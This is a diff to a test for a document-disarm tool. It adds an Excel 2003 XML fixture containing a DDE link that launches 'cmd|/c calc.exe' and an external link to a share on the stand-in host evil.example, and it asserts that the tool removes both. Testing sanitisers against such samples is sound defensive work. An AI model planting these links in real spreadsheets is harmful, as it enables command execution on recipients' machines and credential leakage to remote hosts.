@@ -1012,6 +1012,10 @@ XMLSS = """<?xml version="1.0"?>
 <Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"
  xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"
  xmlns:x="urn:schemas-microsoft-com:office:excel">
+<x:ExcelWorkbook><x:SupBook><x:Path>cmd|/c calc.exe</x:Path><x:ExternName><x:Name>A0</x:Name>
+<x:WantAdvise/></x:ExternName></x:SupBook>
+<x:SupBook><x:Path>\\\\evil.example\\share\\book.xls</x:Path><x:SheetName>S</x:SheetName>
+</x:SupBook><x:WindowHeight>12840</x:WindowHeight></x:ExcelWorkbook>
 <Names><NamedRange ss:Name="Auto_Open" ss:RefersTo="=Sheet1!R1C1"/></Names>
 <Worksheet ss:Name="集計"><Table>
 <Row><Cell><Data ss:Type="String">見積</Data></Cell>
@@ -1095,6 +1099,10 @@ def test_excel2003_xml_disarmed_in_place(tmp_path: Path) -> None:
     r = run(tmp_path, XMLSS.encode(), "集計.xml", KEEP_LINKS)
     assert r.report.input.type == "ooxml.xmlss" and r.report.verdict is Verdict.DISARMED
     assert r.keys() == {("ooxml.xlm_macro", "Workbook#NamedRange[Auto_Open]"),
+                        # the links themselves (oletools' dde-in-excel2003.xml kept its
+                        # "cmd|/c calc.exe" link with the formula gone)
+                        ("ooxml.dde", "Workbook#SupBook[1]"),
+                        ("ooxml.external_link", "Workbook#SupBook[2]"),
                         ("ooxml.dde", "Workbook#cell[2]"),
                         ("ooxml.external_link", "Workbook#cell[3]"),
                         ("ooxml.xlm_macro", "Workbook#cell[4]"),
@@ -1108,8 +1116,9 @@ def test_excel2003_xml_disarmed_in_place(tmp_path: Path) -> None:
     root = DET.fromstring(out.encode(), forbid_dtd=True)
     formulas = [v for el in root.iter() for k, v in el.attrib.items() if k.endswith("}Formula")]
     assert formulas == ["=SUM(R1C2:R1C3)"]                  # the harmless formula stays
-    for gone in ("cmd|", "secret", "CALL", "Auto_Open", "evil.example"):
+    for gone in ("cmd|", "calc", "secret", "CALL", "Auto_Open", "evil.example", "SupBook"):
         assert gone not in out, gone
+    assert "12840" in out                                    # the window settings stay
     assert out.startswith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
                           '<?mso-application progid="Excel.Sheet"?>')
     text = oc.libreoffice_text(r.out, "calc")
